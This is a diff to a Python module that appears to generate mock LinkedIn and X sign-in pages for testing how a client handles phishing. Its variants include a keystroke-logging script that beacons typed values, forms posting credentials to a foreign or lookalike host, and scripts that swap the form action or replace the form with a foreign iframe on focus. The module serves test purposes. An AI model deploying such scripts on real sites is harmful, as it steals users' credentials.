@@ -1,5 +1,7 @@
 """Sign-in pages: each variant is a server of its own, for before a sign-in nobody knows whose weather it is."""
 
+# ruff: noqa: E501 -- what a page says stands in one piece
+
 from __future__ import annotations
 
 import json
@@ -31,7 +33,7 @@ class Variant:
     submits: Mapping[str, tuple[str, str]] = field(default_factory=dict)
 
 
-def _v(start: str = "", *flags: str, **rest: Any) -> Variant:
+def _v(start: str = "", *flags: str, **rest: Any) -> Variant:  # noqa: ANN401 -- passed on as it is
     return Variant(start=start, flags=frozenset(flags), **rest)
 
 
@@ -65,10 +67,21 @@ VARIANTS: Final[dict[str, Variant]] = {
     "div_submit": _v("", "div_submit", "random_ids"),
     "late_submit": _v("", "disabled_until", "social"),
     "cookies": _v("", banner=True),
-    "german": _v("", "random_ids", labels={"linkedin": ("E-Mail-Adresse oder Telefon", "Passwort"), "x": ("E-Mail oder Nutzername", "Passwort")},
-                 submits={"linkedin": ("Weiter", "Einloggen"), "x": ("Weiter", "Anmelden")}),
-    "japanese": _v("", "random_ids", labels={"linkedin": ("メールアドレスまたは電話番号", "パスワード"), "x": ("メールアドレスまたはユーザー名", "パスワード")},
-                   submits={"linkedin": ("続行", "サインイン"), "x": ("次へ", "ログイン")}),
+    "german": _v(
+        "",
+        "random_ids",
+        labels={"linkedin": ("E-Mail-Adresse oder Telefon", "Passwort"), "x": ("E-Mail oder Nutzername", "Passwort")},
+        submits={"linkedin": ("Weiter", "Einloggen"), "x": ("Weiter", "Anmelden")},
+    ),
+    "japanese": _v(
+        "",
+        "random_ids",
+        labels={
+            "linkedin": ("メールアドレスまたは電話番号", "パスワード"),
+            "x": ("メールアドレスまたはユーザー名", "パスワード"),
+        },
+        submits={"linkedin": ("続行", "サインイン"), "x": ("次へ", "ログイン")},
+    ),
     "foreign_host": _v("", trick="redirect"),
     "lookalike_host": _v("", trick="lookalike"),
     "foreign_frame": _v("", trick="frame"),
@@ -78,7 +91,7 @@ VARIANTS: Final[dict[str, Variant]] = {
     "foreign_second": _v("username", trick="second"),
     "swapped_action": _v("", trick="swap"),
     "swapped_frame": _v("", trick="swap_frame"),
-}  # fmt: skip
+}
 
 
 def sign_in_page(facts: Facts, variant: Variant, *, flow: str, chosen: str) -> str:
@@ -95,40 +108,62 @@ def _spec(facts: Facts, variant: Variant, *, flow: str, chosen: str) -> dict[str
     linkedin = facts.slug == "linkedin"
     known = start == "chooser"
     return {
-        "auth": facts.auth, "flow": flow, "start": start, "first": "username" if facts.two_steps else "both",
+        "auth": facts.auth,
+        "flow": flow,
+        "start": start,
+        "first": "username" if facts.two_steps else "both",
         "flags": sorted(variant.flags | ({"ghost", "dup"} if facts.two_steps and not variant.flags else set())),
-        "labels": variant.labels.get(facts.slug, facts.login_label), "submits": variant.submits.get(facts.slug, facts.login_submit),
-        "names": {"username": "session_key", "password": "session_password", "code": "pin"} if linkedin
+        "labels": variant.labels.get(facts.slug, facts.login_label),
+        "submits": variant.submits.get(facts.slug, facts.login_submit),
+        "names": {"username": "session_key", "password": "session_password", "code": "pin"}
+        if linkedin
         else {"username": "username_or_email", "password": "password", "code": "text"},
-        "autocomplete": "username webauthn" if linkedin else "username", "name": facts.name, "banner": variant.banner,
-        "title": f"Sign in to {facts.name}", "passwordTitle": "Enter your password", "socialText": "Sign in with " if linkedin else "Continue with ",
-        "chosen": chosen if known else "", "chosenName": "Ada Example" if known else "", "masked": chosen[:1] + "•••@" + chosen.partition("@")[2],
-    }  # fmt: skip
+        "autocomplete": "username webauthn" if linkedin else "username",
+        "name": facts.name,
+        "banner": variant.banner,
+        "title": f"Sign in to {facts.name}",
+        "passwordTitle": "Enter your password",
+        "socialText": "Sign in with " if linkedin else "Continue with ",
+        "chosen": chosen if known else "",
+        "chosenName": "Ada Example" if known else "",
+        "masked": chosen[:1] + "•••@" + chosen.partition("@")[2],
+    }
 
 
-_LOG: Final = ("<script>document.addEventListener('input',e=>navigator.sendBeacon('/__typed',JSON.stringify({v:e.target.value})));"
-               "document.addEventListener('keydown',e=>e.key.length==1&&navigator.sendBeacon('/__typed',JSON.stringify({v:e.key})))</script>")  # fmt: skip
+_LOG: Final = (
+    "<script>document.addEventListener('input',e=>navigator.sendBeacon('/__typed',JSON.stringify({v:e.target.value})));"
+    "document.addEventListener('keydown',e=>e.key.length==1&&navigator.sendBeacon('/__typed',JSON.stringify({v:e.key})))</script>"
+)
 
 
 def foreign_page(host: str) -> str:
     """A sign-in page of somebody else, which remembers every key."""
-    return shell("Sign in", f"""<main class="card"><h1>Sign in</h1><form method="post" action="/collect">
+    return shell(
+        "Sign in",
+        f"""<main class="card"><h1>Sign in</h1><form method="post" action="/collect">
 <label for="u">Email or phone</label><br><input id="u" name="session_key" autocomplete="username"><br>
 <label for="p">Password</label><br><input id="p" type="password" name="session_password" autocomplete="current-password"><br>
-<button type="submit">Sign in</button></form><p>{host}</p></main>{_LOG}""")
+<button type="submit">Sign in</button></form><p>{host}</p></main>{_LOG}""",
+    )
 
 
 def foreign_password() -> str:
     """A password question of somebody else, to be shown in a frame."""
-    return shell("Confirm", f"""<form method="post" action="/collect"><label for="p">Password</label><br>
-<input id="p" type="password" name="password" autocomplete="current-password"><button type="submit">Confirm</button></form>{_LOG}""")
+    return shell(
+        "Confirm",
+        f"""<form method="post" action="/collect"><label for="p">Password</label><br>
+<input id="p" type="password" name="password" autocomplete="current-password"><button type="submit">Confirm</button></form>{_LOG}""",
+    )
 
 
 def _tricky(facts: Facts, variant: Variant) -> str:
     u, p = facts.login_label
     if variant.trick == "frame":
         return f'<main class="card"><h1>Sign in</h1><iframe src="https://{foreign_host(facts)}/embedded" title="Sign in" width="360" height="320"></iframe></main>'
-    action = {"action": f"https://{foreign_host(facts)}/collect", "http_action": f"http://{foreign_host(facts)}/collect"}.get(variant.trick, facts.auth)
+    action = {
+        "action": f"https://{foreign_host(facts)}/collect",
+        "http_action": f"http://{foreign_host(facts)}/collect",
+    }.get(variant.trick, facts.auth)
     form = f"""<main class="card"><h1>Sign in</h1><form method="post" action="{action}">
 <label for="username">{u}</label><br><input id="username" name="session_key" autocomplete="username"><br>
 <label for="password">{p}</label><br><input id="password" type="password" name="session_password" autocomplete="current-password"><br>
@@ -136,6 +171,8 @@ def _tricky(facts: Facts, variant: Variant) -> str:
     if variant.trick == "swap":
         form += f"<script>document.forms[0].addEventListener('focusin',e=>{{e.currentTarget.action='https://{foreign_host(facts)}/collect'}})</script>"
     if variant.trick == "swap_frame":
-        form += ("<script>document.forms[0].addEventListener('focusin',e=>{const f=document.createElement('iframe');"
-                 f"f.src='https://{foreign_host(facts)}/embedded';f.width=360;f.height=320;f.onload=()=>f.focus();document.forms[0].replaceWith(f)}})</script>")  # fmt: skip
+        form += (
+            "<script>document.forms[0].addEventListener('focusin',e=>{const f=document.createElement('iframe');"
+            f"f.src='https://{foreign_host(facts)}/embedded';f.width=360;f.height=320;f.onload=()=>f.focus();document.forms[0].replaceWith(f)}})</script>"
+        )
     return form
